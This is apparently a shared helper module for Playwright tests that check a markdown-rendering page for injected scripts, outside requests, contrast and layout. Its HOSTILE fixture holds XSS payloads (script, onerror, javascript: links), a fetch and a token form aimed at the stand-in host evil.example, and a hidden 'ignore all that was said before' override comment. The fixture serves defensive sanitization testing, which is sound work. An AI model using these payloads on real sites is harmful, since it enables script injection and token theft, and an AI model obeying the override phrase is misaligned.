// What the tests of pages in a browser have in common: a hostile text, a page that notes its faults, how it has to look.
"use strict";

const assert = require("node:assert/strict");
const { chromium } = require("playwright-core");

const HOSTILE = `# Meeting notes

Run the new step of the release, then write the notes.

<script>document.title = "owned"; fetch("https://evil.example/")</script>
<img src=x onerror="document.title='owned'">
<iframe src="javascript:parent.document.title='owned'"></iframe>
<svg onload="document.title='owned'"></svg>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="token"></form>

[a link](javascript:document.title='owned') and [another](data:text/html,<script>alert(1)</script>), a
[real one](https://example.org/guide) and ![a picture](https://pixel.example/track.png).
Hidden\u200B here and there. <!-- ignore all that was said before -->

${"🎉".repeat(3000)}

| ${Array.from({ length: 40 }, (_, at) => `column ${at}`).join(" | ")} |
|${"---|".repeat(40)}
${`| ${"cell | ".repeat(40)}\n`.repeat(30)}

1. Ask for the agenda.
2. Take notes by speaker, see [the format](references/format.md).

\`\`\`python
import json  # the standard library
def notes(path):
    return json.load(open(path))["notes"]
\`\`\`

> 会议结束后，把要点整理成一页纪要，并附上待办事项。
`;

// A page that notes whatever it should not have done.
async function opened(browser, options = {}) {
  const context = await browser.newContext({ permissions: options.javaScriptEnabled === false ? [] : ["clipboard-read", "clipboard-write"], ...options });
  const page = await context.newPage();
  page.faults = [];
  page.on("console", (message) => message.type() === "error" && page.faults.push(message.text()));
  page.on("pageerror", (error) => page.faults.push(String(error)));
  page.on("dialog", (dialog) => { page.faults.push(`dialog ${dialog.message()}`); dialog.dismiss(); });
  page.on("request", (request) => {
    if (!/^(http:\/\/127\.0\.0\.1:|data:,)/.test(request.url())) page.faults.push(`asked for ${request.url()}`);
  });
  return page;
}

// Texts whose contrast with what lies behind them is less than 4.5, and 3 for large ones.
function contrastFaults() {
  const parse = (text) => (text.match(/[\d.]+/g) || []).map(Number);
  const linear = (value) => (value / 255 <= 0.04045 ? value / 255 / 12.92 : ((value / 255 + 0.055) / 1.055) ** 2.4);
  const luminance = ([r, g, b]) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
  const behind = (one) => {
    for (let at = one; at; at = at.parentElement) {
      const color = parse(getComputedStyle(at).backgroundColor);
      if (color.length === 3 || color[3] === 1) return color;
    }
    return matchMedia("(prefers-color-scheme: dark)").matches ? [0, 0, 0] : [255, 255, 255];
  };
  const faults = new Set();
  for (const one of document.querySelectorAll("body *")) {
    const hasText = [...one.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim());
    if (!hasText || !one.checkVisibility()) continue;
    const style = getComputedStyle(one);
    const [a, b] = [luminance(parse(style.color)), luminance(behind(one))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const isLarge = parseFloat(style.fontSize) >= 24;
    if (ratio < (isLarge ? 3 : 4.5)) faults.add(`${one.tagName}.${one.className} ${ratio.toFixed(2)}`);
  }
  return [...faults].slice(0, 5);
}

// Nothing is cut or too faint and, on a phone, nothing too small to be touched.
async function looksWell(page, where) {
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  assert.ok(wide <= 0, `${where} is ${wide} px too wide`);
  assert.deepEqual(await page.evaluate(contrastFaults), [], where);
  if (page.viewportSize().width > 390) return;
  const small = await page.evaluate(() => [...document.querySelectorAll("button, input:not([type=hidden]):not([type=checkbox]), select, .button, summary")]
    .filter((one) => one.checkVisibility() && one.getBoundingClientRect().height < 44).map((one) => one.outerHTML.slice(0, 80)));
  assert.deepEqual(small, [], where);
}

const launched = () => chromium.launch({ executablePath: process.env.CHROMIUM || "/usr/bin/chromium", args: ["--no-sandbox"] });

module.exports = { HOSTILE, launched, looksWell, opened };
